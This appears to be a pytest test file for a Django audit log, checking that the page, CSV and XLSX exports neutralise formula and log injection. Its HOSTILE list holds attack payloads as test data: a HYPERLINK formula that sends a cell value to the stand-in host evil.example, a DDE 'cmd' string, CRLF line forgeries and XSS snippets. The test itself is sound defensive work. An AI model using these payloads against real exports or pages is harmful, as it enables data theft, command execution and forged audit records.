"""Formula injection (V-5) and log injection (T-26) in what the audit log shows."""

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from empact.accounts.tests.helpers import sign_in
from empact.audit.export import escape_controls, export_text, spreadsheet_safe
from empact.audit.log import record
from empact.audit.tests.factories import make_auditor

UNSAFE_FIRST = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "  =1",
    "alice\r\nbob,allowed,forged line",
    "mallory\n2025-01-01T00:00:00.000000Z,root,EUROPOL",
    "ansi \x1b[31mred\x1b[0m",
    "line\u2028separator",
    "next\x85line",
    "nul\x00byte",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "back\\slash\\n",
]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+2", "'=1+2"),
        ("+31 20 555", "'+31 20 555"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("a=1", "a=1"),
        ("plan.imported", "plan.imported"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_spreadsheet_safe_defuses_text_a_spreadsheet_would_run(value, expected):
    assert spreadsheet_safe(value) == expected


@given(st.text(max_size=60))
def test_exported_text_is_one_line_that_no_spreadsheet_runs(value):
    text = export_text(value)
    assert len(text.splitlines()) <= 1
    assert text.startswith("'") or not text.lstrip().startswith(UNSAFE_FIRST)


def test_controls_and_backslashes_are_escaped_and_other_text_kept():
    assert escape_controls("a\\nb\nc\x1b") == "a\\\\nb\\nc\\x1b"
    assert escape_controls("Zoë Ελλάδα") == "Zoë Ελλάδα"


@pytest.mark.django_db
def test_hostile_text_forges_no_line_and_no_formula_in_any_output(client, figure):
    for value in HOSTILE:
        record(
            "login.failed",
            actor=None,
            actor_name=value,
            operation="security",
            outcome="denied",
            why=value,
            object_repr=value,
            extra={"username": value},
        )
    sign_in(client, make_auditor())
    query = {"action": "login.failed"}
    page = client.get(reverse("audit:log"), query).content.decode()
    csv_body = b"".join(
        client.get(reverse("audit:export_csv"), query).streaming_content
    ).decode()
    book = load_workbook(
        io.BytesIO(
            b"".join(client.get(reverse("audit:export_xlsx"), query).streaming_content)
        )
    )

    n = len(HOSTILE)
    lines = csv_body.split("\r\n")[:-1]
    cells = [c for row in csv.reader(io.StringIO(csv_body)) for c in row]
    xlsx = [c for row in book["audit log"].iter_rows() for c in row]
    forged_lines = len(csv_body.splitlines()) - (1 + n)
    formula_cells = sum(c.data_type == "f" for c in xlsx)
    unsafe = [
        v
        for v in [*cells, *(c.value for c in xlsx)]
        if isinstance(v, str) and v.lstrip().startswith(UNSAFE_FIRST)
    ]
    figure(
        f"\nlog injection: {n} hostile values x 4 fields x (page, CSV, XLSX): "
        f"{forged_lines} forged lines, {formula_cells + len(unsafe)} formula cells"
    )
    assert len(lines) == 1 + n and forged_lines == 0
    assert formula_cells == 0 and unsafe == []
    assert "<script>" not in page and "<img src=x" not in page
    assert "alice\\r\\nbob,allowed,forged line" in page
    assert "ansi \\x1b[31mred" in page
    rows = list(csv.DictReader(io.StringIO(csv_body)))
    assert rows[0]["actor"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[7]["actor"] == "alice\\r\\nbob,allowed,forged line"
